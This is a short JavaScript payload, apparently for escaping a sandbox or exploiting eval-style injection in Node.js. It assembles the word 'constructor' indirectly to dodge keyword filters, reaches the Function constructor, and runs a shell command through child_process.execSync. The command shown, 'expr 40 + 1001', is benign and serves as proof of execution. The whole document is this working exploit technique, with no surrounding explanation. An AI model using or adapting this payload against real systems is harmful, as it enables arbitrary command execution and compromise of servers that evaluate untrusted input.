const k=JSON.parse('["con","structor"]').join('');
const a=''[k]; a[k]('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
